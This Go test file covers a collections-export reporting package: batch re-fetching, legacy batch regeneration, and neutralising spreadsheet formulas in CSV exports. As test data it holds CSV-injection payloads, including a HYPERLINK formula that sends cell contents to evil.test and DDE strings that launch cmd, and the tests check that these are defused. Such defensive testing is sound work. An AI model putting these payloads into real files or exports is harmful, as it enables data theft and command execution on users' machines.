package reports

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"errors"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/example/dunning/internal/pgtest"
)

// An export that was generated but never delivered (the output discarded,
// as when the CLI dies before writing its file) is listed and fetched
// again byte for byte; its write-offs are not exported a second time.
func TestCollectionsBatchFetchedAgain(t *testing.T) {
	_, db := pgtest.New(t)
	ctx := context.Background()
	insertCustomer(t, db, "acme", "=HYPERLINK(\"http://evil.test\",\"pay here\")", "USD", "terminated")
	insertCustomer(t, db, "kim", "김 상사", "KRW", "terminated")
	at := time.Date(2025, 3, 1, 23, 30, 0, 0, time.UTC)
	insertWriteOff(t, db, "wo-acme", "acme", []string{"INV-acme-2"}, 15000, "USD", true, at)
	insertWriteOff(t, db, "wo-kim", "kim", []string{"INV-kim-1"}, 1234567, "KRW", true, at.Add(time.Hour))

	exportedAt := time.Date(2025, 3, 15, 9, 0, 0, 0, time.UTC)
	var lost bytes.Buffer
	n, err := ExportCollections(ctx, db, &lost, exportedAt)
	if err != nil || n != 2 {
		t.Fatalf("export: %d, %v", n, err)
	}
	original := bytes.Clone(lost.Bytes())
	lost.Reset() // never delivered

	var again bytes.Buffer
	if n, err := ExportCollections(ctx, db, &again, exportedAt.Add(time.Minute)); err != nil || n != 0 {
		t.Fatalf("second export: %d, %v", n, err)
	}
	batches, err := ListCollectionsBatches(ctx, db, 0)
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(original)
	if len(batches) != 1 || batches[0].Rows != 2 || !batches[0].Kept || batches[0].SHA256 != hex.EncodeToString(sum[:]) ||
		!batches[0].ExportedAt.Equal(exportedAt) {
		t.Fatalf("batches %+v (an empty export keeps no batch)", batches)
	}
	again.Reset()
	b, err := FetchCollectionsBatch(ctx, db, &again, batches[0].BatchID)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(again.Bytes(), original) || b.BatchID != batches[0].BatchID {
		t.Errorf("fetched again:\n%s\nfirst produced:\n%s", again.Bytes(), original)
	}
	if !strings.Contains(string(original), batches[0].BatchID) {
		t.Error("the file does not name its batch")
	}

	if _, err := FetchCollectionsBatch(ctx, db, io.Discard, "col-nope"); !errors.Is(err, ErrNoSuchBatch) {
		t.Errorf("unknown batch: %v", err)
	}

	// A batch from before files were kept is regenerated from its claims.
	insertWriteOff(t, db, "wo-old", "kim", []string{"INV-kim-0"}, 500, "KRW", true, at.Add(-48*time.Hour))
	if _, err := db.Exec(`INSERT INTO collections_exports (event_key, batch_id, exported_at) VALUES ('wo-old', 'col-legacy', $1)`,
		exportedAt.Add(-24*time.Hour)); err != nil {
		t.Fatal(err)
	}
	batches, err = ListCollectionsBatches(ctx, db, 0)
	if err != nil || len(batches) != 2 || batches[1].BatchID != "col-legacy" || batches[1].Kept || batches[1].Rows != 1 {
		t.Fatalf("with a legacy batch: %+v, %v", batches, err)
	}
	again.Reset()
	if _, err := FetchCollectionsBatch(ctx, db, &again, "col-legacy"); err != nil {
		t.Fatal(err)
	}
	rows := readExport(t, again.Bytes())
	if len(rows) != 1 || rows[0][9] != "wo-old" || rows[0][6] != "500" || rows[0][10] != "col-legacy" {
		t.Errorf("legacy batch regenerated as %q", rows)
	}
	if got, err := ListCollectionsBatches(ctx, db, 1); err != nil || len(got) != 1 || got[0].BatchID != batches[0].BatchID {
		t.Errorf("limit 1: %+v, %v", got, err)
	}
}

// Customer-supplied text that a spreadsheet would run as a formula is
// neutralised in the collections export; our numbers are not.
func TestCollectionsExportNeutralisesFormulas(t *testing.T) {
	_, db := pgtest.New(t)
	ctx := context.Background()
	hostile := map[string]string{
		"c-eq":    `=HYPERLINK("http://evil.test/?"&A1,"Click")`,
		"c-plus":  "+cmd|' /C calc'!A0",
		"c-minus": "-2+3+cmd|' /C calc'!A0",
		"c-at":    "@SUM(1+1)*cmd|' /C calc'!A0",
		"c-tab":   "\t=1+1",
		"c-cr":    "\r=1+1",
		"c-space": "   =1+1",
		"c-wide":  "＝1+1",
		"c-plain": "Plain & Sons, Ltd.",
	}
	at := time.Date(2025, 3, 1, 0, 0, 0, 0, time.UTC)
	for id, name := range hostile {
		insertCustomer(t, db, id, name, "USD", "terminated")
		insertWriteOff(t, db, "wo-"+id, id, []string{"INV-" + id}, 1234, "USD", true, at)
	}
	if _, err := db.Exec(`UPDATE customers SET email = '-x@evil.test', phone = '=1+2' WHERE customer_id = 'c-at'`); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if _, err := ExportCollections(ctx, db, &buf, at.Add(time.Hour)); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	checked := 0
	for _, r := range rows[1:] {
		id, name := r[0], r[1]
		want := hostile[id]
		if id != "c-plain" {
			want = "'" + want
		}
		if name != want {
			t.Errorf("%s: name cell %q, want %q", id, name, want)
		}
		if r[6] != "12.34" {
			t.Errorf("%s: amount %q", id, r[6])
		}
		if id == "c-at" && (r[2] != "'-x@evil.test" || r[3] != "'=1+2") {
			t.Errorf("email %q phone %q not neutralised", r[2], r[3])
		}
		if id == "c-plain" && r[3] != "+15550100" {
			t.Errorf("a well-formed phone was changed: %q", r[3])
		}
		checked++
	}
	if checked != len(hostile) {
		t.Errorf("%d rows, want %d", checked, len(hostile))
	}
}

// The aging CSV neutralises customer names and keeps amounts (negative
// ones too) as numbers.
func TestAgingCSVNeutralisesFormulas(t *testing.T) {
	var b [NumBuckets]BucketFigure
	for i := range b {
		b[i].Bucket = BucketNames[i]
	}
	b[0].Figure = Figure{Count: 1, Minor: -1234}
	r := AgingReport{AsOf: testAsOf, Currencies: []CurrencyAging{{
		Currency: "USD", Customers: 2, Buckets: b, Total: Figure{Count: 1, Minor: -1234},
		TopCustomers: []CustomerAging{
			{CustomerID: "evil", Name: "=cmd|' /C calc'!A0", Status: "active", Currency: "USD", Buckets: b, Total: Figure{Count: 1, Minor: -1234}},
			{CustomerID: "ok", Name: "Acme - Ltd", Status: "active", Currency: "USD", Buckets: b, Total: Figure{Count: 1, Minor: -1234}},
		},
	}}}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, r); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 4 {
		t.Fatalf("%d rows", len(rows))
	}
	if rows[2][4] != "'=cmd|' /C calc'!A0" || rows[3][4] != "Acme - Ltd" {
		t.Errorf("names %q %q", rows[2][4], rows[3][4])
	}
	for _, row := range rows[1:] {
		if row[8] != "-12.34" {
			t.Errorf("negative amount written as %q", row[8])
		}
	}
}
